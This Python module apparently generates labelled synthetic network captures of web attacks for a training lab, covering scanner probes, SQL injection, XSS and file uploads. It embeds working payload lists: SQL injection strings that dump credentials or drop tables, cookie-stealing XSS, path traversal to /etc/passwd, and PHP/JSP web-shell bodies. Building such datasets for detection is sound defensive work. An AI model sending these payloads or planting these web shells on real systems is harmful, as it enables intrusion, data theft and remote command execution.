"""Web attacks: vulnerability scanners, SQL injection and XSS, and malicious uploads."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

from trainer.lab.ethernet.attacks.hosts import pick_source
from trainer.lab.ethernet.capture import Capture, Tcp
from trainer.lab.ethernet.payloads.http import BROWSER_UAS, SERVERS, http_request, http_response
from trainer.lab.ethernet.payloads.text import entropy_text
from trainer.lab.ethernet.site import Site, rtt

NIKTO_PATHS = ["/admin/", "/phpmyadmin/", "/.git/HEAD", "/.env", "/cgi-bin/test.cgi", "/server-status", "/wp-login.php",
               "/backup.zip", "/config.php.bak", "/etc/passwd", "/../../../../etc/passwd", "/console", "/manager/html",
               "/actuator/env", "/.DS_Store", "/robots.txt", "/CHANGELOG.txt", "/xmlrpc.php", "/shell.php",
               "/solr/admin/", "/HNAP1/", "/boaform/admin/formLogin", "/api/v1/pods", "/debug/pprof/",
               "/cgi-bin/luci", "/owa/auth/logon.aspx", "/jmx-console/", "/_profiler/phpinfo", "/vendor/phpunit/"]


def _http_attack(cap: Capture, site: Site, t: float, n: int, label: str,
                 make: Callable[[random.Random, str], tuple[str, str, bytes, str | None, list[tuple[str, str]]]],
                 statuses: list[int], ua: str, rate: float, per_conn: tuple[int, int]) -> None:
    """Common shape of web attacks: connections carrying requests made by ``make``, with responses."""
    rng = cap.rng
    a = pick_source(site, rng)
    v = site.web
    host = v.addr if site.http_port == 80 else f"{v.addr}:{site.http_port}"
    count = len(cap.frames)
    srv = rng.choice(SERVERS)
    while len(cap.frames) - count < n:
        c = Tcp(cap, label, a, v, site.http_port, t, rtt(site, a, v), site.loss)
        c.open()
        for _ in range(rng.randint(*per_conn)):
            method, path, body, ctype, extra = make(rng, host)
            c.exchange(http_request(rng, method, host, path, ua, body, ctype, extra),
                       http_response(rng, rng.choice(statuses), entropy_text(rng, rng.randint(0, 3000)),
                                     "text/html; charset=UTF-8", srv), rng.uniform(0.001, 0.08))
            c.t += rng.expovariate(rate)
        c.close(rng.random() < 0.7)
        t = c.t + rng.expovariate(rate)


def atk_vuln_scan(cap: Capture, site: Site, t: float, n: int) -> None:
    rng = cap.rng
    test = rng.randrange(1000, 9000)
    ua = rng.choice([f"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test:06d})",
                     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei - Open-source project",
                     "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                     "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)", "Wfuzz/3.1.0", "gobuster/3.1.0"])

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        p = rng.choice(NIKTO_PATHS)
        if rng.random() < 0.5:
            p = f"/{rng.choice(['old', 'test', 'dev', 'bak', 'admin', 'tmp', 'db', 'data'])}{rng.randrange(100)}" + \
                rng.choice(["/", ".php", ".asp", ".cgi", ".bak", ".sql", ".tar.gz", ".jsp"])
        return rng.choice(["GET", "GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "TRACE"]), p, b"", None, []

    _http_attack(cap, site, t, n, "Vulnerability_scanner", make, [404, 404, 404, 403, 200, 301, 400, 405], ua,
                 rng.uniform(20, 300), (5, 60))


SQLI = ["1' OR '1'='1", "1 AND 1=1", "1 AND 1=2", "1' AND SLEEP(5)-- -", "1 UNION ALL SELECT NULL,NULL,NULL-- -",
        "1') AND (SELECT 7133 FROM(SELECT COUNT(*),CONCAT(0x716b,(SELECT (ELT(7133=7133,1))),0x7170)x)a)-- abcd",
        "-1 UNION SELECT username,password FROM users-- ", "1;DROP TABLE sensors--", "admin'--",
        "1 AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))", "1' WAITFOR DELAY '0:0:5'--", "1' ORDER BY 10-- -"]
XSS = ["<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
       "<svg/onload=alert('xss')>", "javascript:alert(1)", "<body onload=alert(1)>",
       "'\"><iframe src=javascript:alert(1)>", "<ScRiPt>prompt(1)</sCrIpT>", "<details open ontoggle=confirm(1)>"]


def _qenc(s: str, rng: random.Random) -> str:
    from urllib.parse import quote, quote_plus
    return rng.choice([quote, quote_plus])(s, safe="")


def atk_injection(cap: Capture, site: Site, t: float, n: int, label: str) -> None:
    """sqlmap-like or XSS payloads, URL-encoded in query strings or in form/JSON bodies."""
    rng = cap.rng
    payloads = SQLI if label == "SQL_injection" else XSS
    params = ["id", "q", "search", "user", "name", "page", "cat", "comment", "sensor", "item"]
    paths = ["/index.php", "/search", "/product.php", "/login.php", "/api/sensor", "/comments", "/view",
             "/dvwa/vulnerabilities/sqli/"]
    ua = (f"sqlmap/1.{rng.randint(4, 7)}.{rng.randint(1, 12)}#stable (https://sqlmap.org)"
          if label == "SQL_injection" and rng.random() < 0.5 else rng.choice(BROWSER_UAS))

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        p = rng.choice(payloads)
        if rng.random() < 0.3:
            p = p.replace(" ", rng.choice(["/**/", "%20", "+"])) if label == "SQL_injection" else p.upper()
        name = rng.choice(params)
        if rng.random() < 0.6:
            q = f"{name}={_qenc(p, rng)}"
            if rng.random() < 0.5:
                q += f"&Submit=Submit&{rng.choice(params)}={rng.randrange(100)}"
            return "GET", f"{rng.choice(paths)}?{q}", b"", None, []
        if rng.random() < 0.7:
            return "POST", rng.choice(paths), f"{name}={_qenc(p, rng)}&submit=1".encode(), None, []
        return "POST", rng.choice(paths), json.dumps({name: p}).encode(), "application/json", []

    _http_attack(cap, site, t, n, label, make, [200, 200, 500, 302, 403], ua, rng.uniform(2, 50), (1, 30))


def atk_upload(cap: Capture, site: Site, t: float, n: int) -> None:
    """Multipart uploads of web shells, scripts and binaries to upload forms."""
    rng = cap.rng

    def make(rng: random.Random, host: str) -> tuple[str, str, bytes, str | None, list[tuple[str, str]]]:
        boundary = rng.choice(["----WebKitFormBoundary", "---------------------------", "----formdata-"]) + \
            "".join(rng.choice("0123456789abcdefABCDEF") for _ in range(16))
        fname, ftype, data = rng.choice([
            ("shell.php", "application/x-php", b"<?php system($_GET['cmd']); ?>"),
            ("cmd.jsp", "application/octet-stream", b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec("
             b"request.getParameter(\"c\")); %>"),
            ("image.php.jpg", "image/jpeg", b"\xff\xd8\xff\xe0<?php eval($_POST['x']); ?>"),
            ("update.bin", "application/octet-stream", b""), ("payload.sh", "text/x-sh", b"#!/bin/sh\nwget http://"),
            ("report.pdf", "application/pdf", b"%PDF-1.4\n")])
        data = data + rng.randbytes(rng.choice([0, 200, 2000, 20000, 60000]))
        field_name = rng.choice(["file", "uploaded", "upload"])
        head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; filename=\"{fname}\"\r\n"
                f"Content-Type: {ftype}\r\n\r\n")
        tail = (f"\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"Upload\"\r\n\r\n"
                f"Upload\r\n--{boundary}--\r\n")
        body = head.encode() + data + tail.encode()
        return "POST", rng.choice(["/upload", "/upload.php", "/dvwa/vulnerabilities/upload/", "/api/files",
                                   "/admin/firmware"]), body, f"multipart/form-data; boundary={boundary}", []

    _http_attack(cap, site, t, n, "Uploading", make, [200, 201, 200, 413, 500], rng.choice(BROWSER_UAS),
                 rng.uniform(0.5, 10), (1, 4))
